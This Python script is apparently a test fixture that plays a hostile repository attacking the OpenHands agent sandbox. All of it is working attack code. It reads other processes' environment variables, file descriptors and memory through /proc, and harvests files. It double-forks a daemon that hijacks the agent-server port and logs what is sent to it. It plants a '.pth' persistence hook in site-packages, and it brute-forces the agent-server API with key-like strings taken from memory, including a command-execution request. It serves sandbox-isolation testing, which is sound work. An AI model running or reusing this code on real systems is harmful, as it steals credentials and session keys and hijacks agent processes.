"""What a hostile repository runs inside the sandbox (committed as ``.openhands/attacker.py``).

Standard library only; every finding goes to a file in the output directory the test reads.
Nothing here is checked by the script itself: it takes what it can and the test decides.

    python3 attacker.py harvest OUT LABEL [DIR ...]   read every /proc entry and file it can
    python3 attacker.py daemon OUT PORT               leave a session-less process behind that
                                                      listens on PORT and keeps harvesting
    python3 attacker.py plant-pth OUT                 write .pth files wherever Python may load them
    python3 attacker.py outlast-agent-server OUT PORT S  wait (at most S s) until no agent-server
                                                      runs on PORT
    python3 attacker.py probe-agent-server OUT PORT S wait (at most S s) for the agent-server booting
                                                      meanwhile, then ask it for everything
"""

from __future__ import annotations

import json
import os
import re
import socket
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

READ_LIMIT = 256 * 1024
FILE_LIMIT = 5000


def read(path: str | Path, limit: int = READ_LIMIT) -> bytes:
    try:
        with open(path, "rb") as stream:
            return stream.read(limit)
    except OSError as error:
        return f"<{type(error).__name__}>".encode()


def read_memory(pid: int) -> bytes:
    """The readable, writable mappings of a process (its heap holds what it was sent)."""
    found = []
    maps = read(f"/proc/{pid}/maps").decode(errors="replace")
    try:
        memory = open(f"/proc/{pid}/mem", "rb")  # noqa: SIM115 - closed below
    except OSError as error:
        return f"<mem: {type(error).__name__}>".encode()
    with memory:
        for line in maps.splitlines():
            match = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if not match:
                continue
            start, end = int(match.group(1), 16), int(match.group(2), 16)
            try:
                memory.seek(start)
                found.append(memory.read(min(end - start, 64 * 1024 * 1024)))
            except OSError:
                continue
    return b"".join(found)


def harvest_processes(out: Path, label: str, only: str | None = None) -> None:
    with (out / f"{label}-proc.txt").open("ab") as sink:
        for entry in sorted(Path("/proc").iterdir(), key=lambda item: item.name):
            if not entry.name.isdigit() or int(entry.name) == os.getpid():
                continue
            cmdline = read(entry / "cmdline")
            if only is not None and only.encode() not in cmdline:
                continue
            sink.write(b"\n== " + entry.name.encode() + b" " + cmdline + b"\n")
            sink.write(read(entry / "environ") + b"\n")
            for fd in (entry / "fd").glob("*") if os.access(entry / "fd", os.R_OK) else []:
                sink.write(read(fd, 64 * 1024))
            if only is not None or int(entry.name) == os.getppid() or b"openhands.agent_server" in cmdline:
                sink.write(read_memory(int(entry.name)))


def harvest_files(out: Path, label: str, directories: list[str]) -> None:
    count = 0
    with (out / f"{label}-files.txt").open("ab") as sink:
        for directory in directories:
            for root, _, files in os.walk(directory):
                if root.startswith(str(out)):
                    continue
                for name in files[: max(0, FILE_LIMIT - count)]:
                    count += 1
                    path = os.path.join(root, name)
                    sink.write(b"\n== " + path.encode() + b"\n" + read(path, 64 * 1024))


def harvest(out: Path, label: str, directories: list[str]) -> None:
    (out / f"{label}-env.txt").write_text("\n".join(f"{k}={v}" for k, v in os.environ.items()))
    harvest_processes(out, label)
    harvest_files(out, label, directories)


class Listener(threading.Thread):
    """Takes the agent-server's port and keeps whatever is sent to it."""

    def __init__(self, out: Path, port: int) -> None:
        super().__init__(daemon=True)
        self.out = out
        self.server = socket.socket()
        self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.server.bind(("127.0.0.1", port))
        self.server.listen(16)

    def run(self) -> None:
        while True:
            connection, _ = self.server.accept()
            with connection:
                connection.settimeout(2)
                received = b""
                try:
                    while chunk := connection.recv(65536):
                        received += chunk
                        if b"\r\n\r\n" in received:
                            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}")
                            break
                except OSError:
                    pass
            with (self.out / "listener.txt").open("ab") as sink:
                sink.write(received + b"\n")


def daemon(out: Path, port: int) -> None:
    """Double fork out of the setup script's process group and session, then stay."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    os.chdir("/")
    for stream in (0, 1, 2):
        os.dup2(os.open(os.devnull, os.O_RDWR), stream)
    (out / "daemon.pid").write_text(str(os.getpid()))
    try:
        Listener(out, port).start()
        (out / "daemon-listening").write_text(str(port))
    except OSError as error:
        (out / "daemon-listening").write_text(f"could not listen: {error}")
    while True:
        (out / "daemon-alive").write_text(str(time.time()))
        harvest_processes(out, "daemon", only="openhands.agent_server")
        time.sleep(0.2)


PTH = "import os; open({path!r} + '-%d-%d' % (os.getuid(), os.getpid()), 'wb').write(open('/proc/self/cmdline', 'rb').read() + b'\\n' + repr(dict(os.environ)).encode())\n"  # noqa: E501


def plant_pth(out: Path) -> None:
    """A .pth file runs inside any Python that loads the directory it is in."""
    home = Path(os.environ.get("HOME", "/nonexistent"))
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    agent_python = os.environ.get("AGENT_SERVER_PYTHON", "")
    candidates = [
        home / ".local" / "lib" / version / "site-packages",
        home.parent / "agent-home" / ".local" / "lib" / "python3.13" / "site-packages",
        Path("/home/openhands/.local/lib/python3.13/site-packages"),
    ]
    if agent_python:
        venv = Path(agent_python).parent.parent
        candidates += sorted(venv.glob("lib/python3*/site-packages"))
    with (out / "pth-planted.txt").open("a") as report:
        for directory in candidates:
            try:
                directory.mkdir(parents=True, exist_ok=True)
                (directory / "zz-hostile.pth").write_text(PTH.format(path=str(out / "pth-ran")))
                report.write(f"planted {directory}\n")
            except OSError as error:
                report.write(f"refused {directory}: {type(error).__name__}\n")


def agent_servers(port: int) -> list[int]:
    """Every live agent-server of PORT (anyone may read another's cmdline)."""
    found = []
    for entry in Path("/proc").iterdir():
        cmdline = read(entry / "cmdline") if entry.name.isdigit() else b""
        if b"openhands.agent_server" in cmdline and f"\0--port\0{port}\0".encode() in cmdline + b"\0":
            state = read(entry / "stat").rsplit(b")", 1)[-1].split()[:1]
            if state and state[0] not in (b"Z", b"X"):
                found.append(int(entry.name))
    return found


def outlast_agent_server(out: Path, port: int, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    seen = agent_servers(port)
    while time.monotonic() < deadline:
        if not agent_servers(port):
            (out / "outlasted").write_text(f"exited: {seen}")
            return
        time.sleep(0.2)
    (out / "outlasted").write_text(f"still running after {seconds} s: {seen}")


PROBES = (
    ("GET", "/api/conversations/search", None),
    ("GET", "/api/bash/bash_events/search", None),
    ("POST", "/api/bash/start_bash_command", {"command": "id > {out}/agent-ran"}),
    ("POST", "/api/conversations", {"agent": {"llm": {"model": "x"}}, "workspace": {"working_dir": "/"}}),
    ("GET", "/server_info", None),
)


def ask(port: int, method: str, path: str, body: object, key: str | None) -> str:
    data = json.dumps(body).encode() if body is not None else None
    headers = {"Content-Type": "application/json", **({"X-Session-API-Key": key} if key is not None else {})}
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=data, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:  # noqa: S310 - http, loopback
            return f"{answer.status} {answer.read(64 * 1024).decode(errors='replace')}"
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read(4096).decode(errors='replace')}"
    except OSError as error:
        return f"<{type(error).__name__}>"


def probe_agent_server(out: Path, port: int, seconds: float) -> None:
    """Once the agent-server booting meanwhile answers, ask it for conversations, commands and
    keys, with no key and with every key-like string its process and files let us read."""
    deadline = time.monotonic() + seconds
    while not ask(port, "GET", "/ready", None, None).startswith("200"):
        if time.monotonic() > deadline:
            (out / "probe.txt").write_text(f"the agent-server did not answer within {seconds} s")
            return
        time.sleep(0.2)
    pids = agent_servers(port)
    stolen = b"".join(read(f"/proc/{pid}/{name}") for pid in pids for name in ("environ", "cmdline", "mem"))
    keys = {None, "", *re.findall(r"[A-Za-z0-9_-]{20,}", stolen.decode(errors="replace"))}
    with (out / "probe.txt").open("w") as sink:
        sink.write(f"ready while the setup script ran; agent-servers {pids}\n{stolen!r}\n")
        for method, path, body in PROBES:
            body = json.loads(json.dumps(body).replace("{out}", str(out))) if body is not None else None
            for key in sorted(keys, key=str):
                sink.write(f"{method} {path} key={key!r}: {ask(port, method, path, body, key)}\n")


def main() -> None:
    command, out = sys.argv[1], Path(sys.argv[2])
    if command == "harvest":
        harvest(out, sys.argv[3], sys.argv[4:])
    elif command == "daemon":
        daemon(out, int(sys.argv[3]))
    elif command == "plant-pth":
        plant_pth(out)
    elif command == "probe-agent-server":
        probe_agent_server(out, int(sys.argv[3]), float(sys.argv[4]))
    elif command == "outlast-agent-server":
        outlast_agent_server(out, int(sys.argv[3]), float(sys.argv[4]))


if __name__ == "__main__":
    main()
